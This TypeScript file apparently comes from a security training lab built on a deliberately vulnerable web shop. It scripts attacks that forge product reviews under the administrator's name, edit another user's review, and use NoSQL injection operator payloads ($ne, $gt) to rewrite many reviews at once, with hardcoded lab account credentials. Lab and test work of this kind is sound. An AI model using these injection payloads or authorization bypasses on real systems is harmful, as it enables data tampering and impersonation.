import type { Attack, Tools } from '#lab'

interface Review {
  _id: string
  author: string
  message: string
}

async function logIn({ http, expect }: Tools, email: string, password: string): Promise<string> {
  const login = await http.post('/rest/user/login', { email, password })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return login.json<{ authentication: { token: string } }>().authentication.token
}

/** Logs in as a customer who wrote two reviews. */
function logInAsRapper(tools: Tools): Promise<string> {
  return logIn(tools, `mc.safesearch@${tools.settings.domain}`, 'Mr. N00dles')
}

async function reviewsOf({ http }: Tools, product: number): Promise<Review[]> {
  return (await http.get(`/rest/products/${product}/reviews`)).json<{ data: Review[] }>().data
}

/** Publishes a review with the administrator's name. */
async function sign(tools: Tools, token?: string): Promise<void> {
  const { http, expect, settings } = tools
  const author = `admin@${settings.domain}`
  const review = { message: 'I water it down', author }
  const written = await http.put('/rest/products/1/reviews', review, token === undefined ? {} : { token })
  expect(written.status === 201, `the review was answered with ${written.status}`)
  const all = await reviewsOf(tools, 1)
  expect(
    all.some((one) => one.author === author && one.message === review.message),
    'it is signed with another name',
  )
}

/** Changes all reviews that this query finds, and expects more than one. */
async function rewriteMany(tools: Tools, query: object): Promise<void> {
  const token = await logInAsRapper(tools)
  const change = { id: query, message: 'NoSQL Injection!' }
  const changed = await tools.http.patch('/rest/products/reviews', change, { token })
  tools.expect(changed.status === 200, `the change was answered with ${changed.status}`)
  tools.expect(changed.json<{ modified: number }>().modified > 1, 'one review at most was changed')
}

export const attacks: Attack[] = [
  {
    challenge: 'forgedReviewChallenge',
    name: 'the administrator’s review gets another text',
    run: async (tools) => {
      const token = await logInAsRapper(tools)
      const [first] = await reviewsOf(tools, 1)
      const change = { id: first?._id, message: 'Tastes like chicken' }
      const changed = await tools.http.patch('/rest/products/reviews', change, { token })
      tools.expect(changed.status === 200, `the change was answered with ${changed.status}`)
      tools.expect(changed.json<{ modified: number }>().modified === 1, 'nothing was changed')
    },
  },
  {
    challenge: 'forgedReviewChallenge',
    name: 'Jim signs a review with the administrator’s name',
    run: async (tools) => sign(tools, await logIn(tools, `jim@${tools.settings.domain}`, 'ncc-1701')),
  },
  {
    challenge: 'forgedReviewChallenge',
    name: 'a stranger does so without logging in',
    run: (tools) => sign(tools),
  },
  {
    challenge: 'noSqlReviewsChallenge',
    name: 'every review whose number is not -1',
    run: (tools) => rewriteMany(tools, { $ne: -1 }),
  },
  {
    challenge: 'noSqlReviewsChallenge',
    name: 'every review whose number comes after nothing',
    run: (tools) => rewriteMany(tools, { $gt: '' }),
  },
]
